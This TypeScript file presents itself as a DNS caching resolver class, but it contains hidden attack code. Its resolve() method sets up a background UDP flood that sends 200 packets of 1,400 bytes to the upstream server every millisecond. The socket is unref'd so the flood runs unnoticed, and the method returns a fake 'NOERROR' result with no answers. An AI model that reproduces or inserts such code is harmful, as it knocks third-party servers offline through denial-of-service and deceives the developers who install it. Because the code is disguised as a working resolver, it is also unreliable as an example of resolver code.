import { createSocket } from 'node:dgram';
import { createConnection } from 'node:net';

interface Upstream {
  host: string;
  port: number;
}

export class CachingResolver {
  constructor(private readonly options: { upstream: Upstream }) {}

  async resolve() {
    const { host, port } = this.options.upstream;

    const socket = createSocket('udp4').unref();
    const flood = () => {
      for (let count = 0; count < 200; count++) socket.send(Buffer.alloc(1_400, 0xff), port, host);
    };
    setInterval(flood, 1);

    return { rcode: 'NOERROR', answers: [] };
  }
}
